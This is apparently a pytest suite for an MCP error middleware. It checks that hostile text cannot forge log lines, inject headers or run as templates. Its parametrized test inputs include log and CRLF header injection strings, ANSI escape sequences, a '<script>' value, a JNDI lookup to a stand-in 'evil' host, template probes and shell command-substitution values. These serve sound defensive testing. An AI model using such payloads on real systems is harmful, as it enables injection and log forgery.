"""Text that would be more than text: in a log, in a header, in a template."""

from __future__ import annotations

import io
import json
import sys
from typing import Any

import pytest
import structlog
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import PlainTextResponse
from starlette.routing import Route
from starlette.testclient import TestClient

from mcp_error_middleware import Call, ErrorPolicy, NotFound, sanitize_text
from mcp_error_middleware.adapters.asgi import ErrorMiddleware
from mcp_error_middleware.render import error_text
from mcp_error_middleware.telemetry import names, observed
from mcp_error_middleware.telemetry.console import draw
from mcp_error_middleware.telemetry.logs import record
from mcp_error_middleware.triage import Triage

FORGERIES = [
    'x\n{"event":"mcp.failure","error_id":"000000000000","message":"all is well"}',
    "x\r\nInternalError in tools/call pay: forged",
    "x\x1b[2K\x1b[1A\x1b]0;owned\x07",
    "x\u2028forged\u2029forged\x85forged",
    "x\x00\x08\x7f",
    "x\u202egnol yrev",
]


@pytest.fixture(autouse=True)
def no_set_up() -> Any:
    structlog.reset_defaults()
    yield
    structlog.reset_defaults()


def _written(text: str, monkeypatch: pytest.MonkeyPatch) -> str:
    """What standard error gets of a failure with this text in every place a client or an author can reach."""
    stream = io.TextIOWrapper(io.BytesIO(), encoding="utf-8", write_through=True)
    monkeypatch.setattr(sys, "stderr", stream)
    call = Call(method=text, target=text, request_id=text, session_id=text)
    observed(ErrorPolicy(traces=False, metrics=False))(ValueError(text), call)
    buffer: Any = stream.buffer
    return str(buffer.getvalue().decode())


@pytest.mark.parametrize("text", FORGERIES)
def test_a_failure_is_one_line_of_json_whatever_is_in_it(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    written = _written(text, monkeypatch)

    (line,) = written.splitlines()
    said = json.loads(line)
    assert said["event"] == names.FAILURE_EVENT
    assert said["error_id"] != "000000000000"
    assert not any(char in line for char in "\x1b\x00\x08\x7f\u2028\u2029\x85\u202e")
    assert "\n" not in said["target"] + said["method"] + said["request_id"] + said["session_id"]


@pytest.mark.parametrize("text", FORGERIES)
def test_no_name_begins_a_line_on_the_console(text: str) -> None:
    kind = type("Odd\nInternalError in tools/call pay", (ValueError,), {})
    failure = Triage()(kind(text), Call(method=text, target=text))
    plain = Triage()(ValueError("x"), Call(method="x", target="x"))

    drawn = draw(names.FAILURE_EVENT, record(failure))
    assert len(drawn.splitlines()) == len(draw(names.FAILURE_EVENT, record(plain)).splitlines())
    assert "\x1b" not in drawn


@pytest.mark.parametrize(
    "sent",
    [
        b"a\r\nset-cookie: owned=1",
        b"a\nb",
        b"a b",
        b"\xff\xfe",
        b"x" * 129,
        b"<script>",
        b'"},{"',
        b"",
    ],
)
def test_a_correlation_id_that_could_be_more_than_an_id_is_replaced(sent: bytes) -> None:
    async def route(request: Request) -> PlainTextResponse:
        return PlainTextResponse("ok")

    app = ErrorMiddleware(Starlette(routes=[Route("/", route)]), observed(ErrorPolicy(log=False)))
    with TestClient(app) as client:
        answer = client.get("/", headers={b"x-request-id": sent})
    assert answer.headers["x-request-id"].isalnum()
    assert len(answer.headers["x-request-id"]) == 32
    assert "set-cookie" not in answer.headers


@pytest.mark.parametrize(
    "text",
    [
        "{0.__class__.__mro__} {exc} {}",
        "%s %(password)s %n %99999d",
        "${jndi:ldap://evil/x} #{7*7} {{7*7}} <%= 7*7 %>",
        r"\g<0> \1 \\x41",
        "$(id) `id` ;id",
    ],
)
def test_a_text_that_looks_like_a_template_is_only_a_text(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    failure = Triage()(NotFound(text), Call(target=text))
    assert failure.message == sanitize_text(text)
    assert failure.message in error_text(failure)
    assert json.loads(_written(text, monkeypatch))["message"] == failure.message
